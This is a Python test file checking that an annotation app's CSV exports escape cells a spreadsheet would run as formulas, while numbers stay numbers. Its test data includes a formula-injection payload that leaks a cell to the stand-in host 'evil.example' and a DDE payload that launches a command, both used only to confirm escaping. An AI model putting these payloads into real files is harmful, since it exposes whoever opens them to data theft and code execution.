"""Exports safe in spreadsheets (issue 31, part 7): a text cell a spreadsheet would run as
a formula (``=``, ``+``, ``-``, ``@``, tab, CR first) comes out with a ``'`` in front;
numbers, negative ones included, stay numbers. Tried as an attacker would: a participant
types ``=HYPERLINK(...)`` as a demographic answer, which staff then open in Excel."""

import csv
import io

import pytest

from annotation.models import DemographicField
from core.spreadsheet import safe_cell
from training.perspectives.export import to_csv

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your results")'


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (LINK, "'" + LINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        (-3.5, -3.5),
        (-7, -7),
        ("-3.5", "-3.5"),
        ("+1e-3", "+1e-3"),
        ("a nurse = a carer", "a nurse = a carer"),
        ("", ""),
        (None, None),
    ],
)
def test_formula_cells_are_escaped_and_numbers_are_not(value, shown):
    assert safe_cell(value) == shown


def test_a_demographic_answer_with_a_formula_is_escaped_in_the_rankings_csv(
    make_tasks, annotator, store_ranking
):
    DemographicField.objects.create(key="first_language", label="Language", choices=["English"])
    (task,) = make_tasks(1)
    participant = annotator("mallory")
    participant.profile.demographics = {"first_language": LINK}
    participant.profile.save()
    items = [link.item_id for link in task.task_items.all()]
    store_ranking(participant.profile, task, list(reversed(items)), seconds=12.5)
    staff = annotator("boss", staff=True)
    body = b"".join(staff.get("/api/export/rankings/?format=csv").streaming_content).decode()
    (row,) = csv.DictReader(io.StringIO(body))
    assert row["first_language"] == "'" + LINK
    assert row["seconds_spent"] == "12.5" and row["order"].startswith("[")


def test_a_group_named_as_a_formula_is_escaped_and_negative_figures_stay_numbers():
    rows = [{"version": 3, "field": "age_band", "group": LINK, "spearman": -3.5, "status": "ok"}]
    (row,) = csv.DictReader(io.StringIO(to_csv(rows)))
    assert row["group"] == "'" + LINK
    assert row["spearman"] == "-3.5" and float(row["spearman"]) == -3.5
    assert row["version"] == "3"
